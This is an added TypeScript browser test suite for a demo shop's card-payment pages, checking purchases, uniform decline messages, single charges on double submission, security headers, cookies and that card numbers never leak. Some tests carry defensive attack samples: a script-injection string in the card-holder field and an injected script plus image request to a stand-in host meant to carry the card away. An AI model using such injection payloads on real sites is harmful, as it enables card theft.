@@ -1,0 +1,292 @@
+import assert from 'node:assert/strict'
+import { after, afterEach, before, describe, it } from 'node:test'
+import type { Page } from 'playwright-core'
+import { assertBooks, assertNothingUnknown, paymentsOf } from './books.ts'
+import { Viewer } from './browser.ts'
+import { Demo } from './demo.ts'
+import { assertNoCardInAnswers, assertNoCardOnDisk } from './leaks.ts'
+import { eventually, PAGE_WITHIN_MS } from './limits.ts'
+import {
+  openOrderAtRest,
+  PAID,
+  placeOrder,
+  pressPay,
+  seeHeading,
+  stockOf,
+  typeCard,
+  UNPAID,
+} from './shopper.ts'
+
+/** Long enough that a second click or tab comes before the answer to the first. */
+const ANSWER_LATE_MS = 1_000
+const CLIPS_MINOR = 360n
+
+describe('paying in a browser', () => {
+  let demo: Demo
+  let viewer: Viewer
+  before(async () => {
+    demo = await Demo.open({ timeScale: 120 })
+    viewer = await Viewer.open()
+  })
+  after(async () => {
+    await viewer?.close()
+    await demo?.close()
+  })
+  afterEach(() => assert.deepEqual(viewer.complaints, [], 'no page has broken its policy or a script'))
+
+  const postsOf = (page: Page) =>
+    viewer.recorder.sent.filter(
+      ({ method, url }) => method === 'POST' && page.url().startsWith(url.origin + url.pathname),
+    )
+  const main = (page: Page): Promise<string> => page.locator('main').innerText()
+
+  it('sells: from the shelves to the paid order, its mail, its stock and equal books', async () => {
+    const buyer = await viewer.visitor()
+    const page = await buyer.page()
+    const stock = await stockOf(page, demo.shopUrl, 'ledger')
+    await page.goto(demo.shopUrl)
+    await viewer.picture(page, 'shelves')
+    await page.getByRole('link', { name: 'Ledger, 192 pages' }).click()
+    await viewer.picture(page, 'product')
+    await page.getByLabel('How many').fill('2')
+    await page.getByRole('button', { name: 'Put into the basket' }).click()
+    await page.waitForURL('**/basket')
+    await viewer.picture(page, 'basket')
+    await page.getByRole('link', { name: 'Check out' }).click()
+    await viewer.picture(page, 'check-out')
+    await page.getByLabel('Email').fill('buyer@shop.example')
+    await page.getByRole('button', { name: 'Order, and go to the payment' }).click()
+    await seeHeading(page, 'Your order')
+    assert.match(await main(page), /£48\.00/)
+    await viewer.picture(page, 'payment-order')
+    await typeCard(page)
+    await viewer.picture(page, 'card-form')
+    await pressPay(page)
+    await seeHeading(page, PAID)
+    assert.match(await main(page), /£48\.00/)
+    await viewer.picture(page, 'paid')
+
+    await page.getByRole('link', { name: 'Back to the shop' }).click()
+    await seeHeading(page, 'Your orders')
+    await viewer.picture(page, 'orders')
+    await page.locator('.orders a').click()
+    const orderId = page.url().split('/').at(-1) ?? ''
+    await openOrderAtRest(page, demo.shopUrl, { orderId, payUrl: '', email: '' })
+    await viewer.picture(page, 'order')
+    await assertBooks(demo, orderId, { paidMinor: 4_800n })
+    await eventually('the mail arrives', PAGE_WITHIN_MS, async () => {
+      await page.goto(`${demo.shopUrl}/mail`)
+      const mails = await page.locator('article.mail', { hasText: 'buyer@shop.example' }).allInnerTexts()
+      assert.ok(mails.length <= 1, 'one mail at most')
+      return mails.find((mail) => /is paid/.test(mail) && /Ledger, 192 pages/.test(mail))
+    })
+    await viewer.picture(page, 'mail')
+    assert.equal(await stockOf(page, demo.shopUrl, 'ledger'), stock - 2)
+    await page.goto(`${demo.shopUrl}/basket`)
+    assert.match(await main(page), /nothing in it/)
+    await buyer.leave()
+  })
+
+  it('declines in the same words whatever the reason, and takes another card', async () => {
+    const buyer = await viewer.visitor()
+    const page = await buyer.page()
+    const placed = await placeOrder(page, demo.shopUrl)
+    const words: string[] = []
+    for (const holder of ['REFUSED', 'FRAUD']) {
+      await typeCard(page, holder)
+      await pressPay(page)
+      await seeHeading(page, UNPAID)
+      words.push(await main(page))
+      if (holder === 'REFUSED') await viewer.picture(page, 'declined')
+      await page.getByRole('link', { name: 'Try another card' }).click()
+      await seeHeading(page, 'Card details')
+    }
+    assert.equal(words[0], words[1])
+    assert.match(words[0] ?? '', /You have not been charged/)
+    assert.doesNotMatch(words.join(), /refused|fraud|stolen|honou?r|issuer|code/i)
+    await typeCard(page)
+    await pressPay(page)
+    await seeHeading(page, PAID)
+    await openOrderAtRest(page, demo.shopUrl, placed)
+    await viewer.picture(page, 'order-after-decline')
+    await assertBooks(demo, placed.orderId, { paidMinor: CLIPS_MINOR, payments: 3 })
+    await buyer.leave()
+  })
+
+  it('charges once when Pay is pressed twice', async () => {
+    const buyer = await viewer.visitor()
+    const page = await buyer.page()
+    const placed = await placeOrder(page, demo.shopUrl)
+    await typeCard(page)
+    await demo.setFault({ kind: 'late', on: 'charge', delayMs: ANSWER_LATE_MS })
+    const before = viewer.recorder.sent.length
+    await page.getByRole('button', { name: /^Pay / }).dblclick({ noWaitAfter: true })
+    // The first may be withdrawn by the second before it leaves the browser; this one comes when one has left.
+    await eventually('the form leaves', PAGE_WITHIN_MS, () => postsOf(page)[0])
+    await pressPay(page)
+    await seeHeading(page, PAID)
+    const posts = viewer.recorder.sent.slice(before).filter(({ method }) => method === 'POST')
+    assert.ok(posts.length >= 2, `the form was sent ${posts.length} times`)
+    assert.equal(new Set(posts.map(({ form }) => form.get('key'))).size, 1, 'with one key')
+    await assertBooks(demo, placed.orderId, { paidMinor: CLIPS_MINOR })
+    await buyer.leave()
+  })
+
+  it('charges once when two tabs pay at once; the one that comes second sees the page of the first', async () => {
+    const buyer = await viewer.visitor()
+    const first = await buyer.page()
+    const placed = await placeOrder(first, demo.shopUrl)
+    const second = await buyer.page()
+    await second.goto(placed.payUrl)
+    await typeCard(first)
+    await typeCard(second)
+    await demo.setFault({ kind: 'late', on: 'charge', delayMs: ANSWER_LATE_MS })
+    const before = viewer.recorder.sent.length
+    await Promise.all([pressPay(first), pressPay(second)])
+    await Promise.all([seeHeading(first, PAID), seeHeading(second, PAID)])
+    const posts = viewer.recorder.sent.slice(before).filter(({ method }) => method === 'POST')
+    assert.equal(new Set(posts.map(({ form }) => form.get('key'))).size, 2, 'each form has a key of its own')
+    assert.equal(new URL(first.url()).pathname, new URL(second.url()).pathname)
+    await assertBooks(demo, placed.orderId, { paidMinor: CLIPS_MINOR })
+    await buyer.leave()
+  })
+
+  it('charges nothing more when the payer goes back, or sends a form that she left open', async () => {
+    const buyer = await viewer.visitor()
+    const page = await buyer.page()
+    const placed = await placeOrder(page, demo.shopUrl)
+    const stale = await buyer.page()
+    await stale.goto(placed.payUrl)
+    await typeCard(stale)
+    await typeCard(page)
+    await pressPay(page)
+    await seeHeading(page, PAID)
+    await page.reload()
+    await seeHeading(page, PAID)
+    await page.goBack()
+    await seeHeading(page, 'This order is paid')
+    assert.equal(await page.getByLabel('Card number').count(), 0, 'there is no form any more')
+    await viewer.picture(page, 'back-after-paying')
+    await page.getByRole('link', { name: 'See your payment' }).click()
+    await seeHeading(page, PAID)
+    await pressPay(stale)
+    await stale.waitForURL((url) => !url.pathname.includes('/pay/card'))
+    await viewer.picture(stale, 'stale-form-sent')
+    assert.match(await main(stale), /paid|complete/)
+    await assertBooks(demo, placed.orderId, { paidMinor: CLIPS_MINOR })
+    await buyer.leave()
+  })
+
+  it('shows what is wrong with a card, and gives neither number nor code back', async () => {
+    const buyer = await viewer.visitor()
+    const page = await buyer.page()
+    const placed = await placeOrder(page, demo.shopUrl)
+    await typeCard(page)
+    const number = await page.getByLabel('Card number').inputValue()
+    const markup = '"><script>document.title = "taken over"</script>'
+    await page.getByLabel('Name on the card').fill(`${markup}`)
+    await page.getByLabel('Month').fill('13')
+    await pressPay(page)
+    await seeHeading(page, 'Card details')
+    await page.getByRole('alert').waitFor()
+    await viewer.picture(page, 'card-problems')
+    assert.equal(await page.getByLabel('Name on the card').inputValue(), markup, 'it came back as text')
+    assert.match(await page.title(), /Check your card details/)
+    assert.equal(await page.getByLabel('Card number').inputValue(), '')
+    assert.equal(await page.getByLabel('Security code').inputValue(), '')
+    // Whoever types the number into another field does not get it back from there.
+    await page.getByLabel('Name on the card').fill(number)
+    await pressPay(page)
+    await page.locator('#holder[value=""]').waitFor()
+    assert.deepEqual(await paymentsOf(demo, placed.orderId), [])
+    await buyer.leave()
+  })
+
+  it('runs no script that is not its own, and loads nothing from elsewhere', async () => {
+    const buyer = await viewer.visitor()
+    const page = await buyer.page()
+    await placeOrder(page, demo.shopUrl)
+    await demo.setFault({ kind: 'late', on: 'charge', delayMs: 4_000 })
+    await typeCard(page)
+    await tryToInject(page)
+    await pressPay(page)
+    await seeHeading(page, 'Please wait')
+    await tryToInject(page)
+    await page.goto(demo.shopUrl)
+    await tryToInject(page)
+    assert.ok(buyer.complaints.length >= 6, 'the browser said so each time')
+    buyer.complaints.length = 0
+    assert.deepEqual(viewer.recorder.elsewhere, [])
+    await buyer.leave()
+  })
+
+  it('has sent strict headers and cookies with every page', () => {
+    const pages = viewer.recorder.exchanges.filter(({ headers }) =>
+      headers.some(([name, text]) => name === 'content-type' && text.startsWith('text/html')),
+    )
+    const ours = pages.filter(({ url }) => url.pathname.startsWith('/pay/'))
+    assert.ok(ours.length > 10 && pages.length > ours.length, 'pages of both kinds were seen')
+    for (const { url, headers } of pages) assertStrictPolicy(url, headers)
+    for (const { url, headers, body } of ours) {
+      const header = new Map(headers)
+      assert.equal(header.get('x-frame-options'), 'DENY', url.pathname)
+      assert.match(header.get('referrer-policy') ?? '', /^(no-referrer|same-origin)$/, url.pathname)
+      assert.equal(header.get('x-robots-tag'), 'noindex, nofollow', url.pathname)
+      assert.doesNotMatch(body(), /<script(?![^>]* src=)|<[^>]+ on[a-z]+=|javascript:/i, url.pathname)
+    }
+    const cookies = viewer.recorder.exchanges.flatMap(({ headers }) =>
+      headers.filter(([name]) => name === 'set-cookie').map(([, text]) => text),
+    )
+    assert.deepEqual([...new Set(cookies.map((text) => text.split('=')[0]))].sort(), [
+      '__Host-counterfoil',
+      'stub-and-quill',
+    ])
+    for (const text of cookies) {
+      assert.match(text, /; HttpOnly/)
+      assert.match(text, /; SameSite=Lax/)
+      assert.match(text, /; Path=\/(;|$)/)
+      assert.doesNotMatch(text, /; Domain/i)
+      if (text.startsWith('__Host-')) assert.match(text, /; Secure/)
+    }
+  })
+
+  it('has charged nothing that the journal does not know', async () => {
+    await assertNothingUnknown(demo)
+  })
+
+  it('has given the card back in no answer, and kept it in no file', () => {
+    assertNoCardInAnswers(viewer.recorder)
+    assertNoCardOnDisk(demo, [/payments\.db-wal$/, /shop\.db-wal$/])
+  })
+})
+
+function assertStrictPolicy(url: URL, headers: readonly (readonly [string, string])[]): void {
+  const header = new Map(headers)
+  const policy = header.get('content-security-policy') ?? ''
+  for (const part of ["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", 'form-action ']) {
+    assert.ok(policy.includes(part), `${url.pathname} has ${part}`)
+  }
+  assert.doesNotMatch(policy, /unsafe|\*|data:|https:/, url.pathname)
+  assert.equal(header.get('x-content-type-options'), 'nosniff', url.pathname)
+  assert.equal(header.get('cache-control'), 'no-store', url.pathname)
+  assert.equal(header.get('cross-origin-opener-policy'), 'same-origin', url.pathname)
+}
+
+/** What an attacker would do who could put something into the page. */
+async function tryToInject(page: Page): Promise<void> {
+  const stopped = await page.evaluate(async () => {
+    const blocked: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      blocked.push(effectiveDirective),
+    )
+    const script = document.createElement('script')
+    script.textContent = "document.documentElement.dataset.taken = 'over'"
+    const image = document.createElement('img')
+    image.src = 'http://elsewhere.example/?card'
+    document.body.append(script, image)
+    await new Promise((resolve) => setTimeout(resolve, 50))
+    return { blocked, taken: document.documentElement.dataset['taken'] }
+  })
+  assert.equal(stopped.taken, undefined, 'the script did not run')
+  assert.deepEqual(stopped.blocked.toSorted(), ['img-src', 'script-src-elem'])
+}
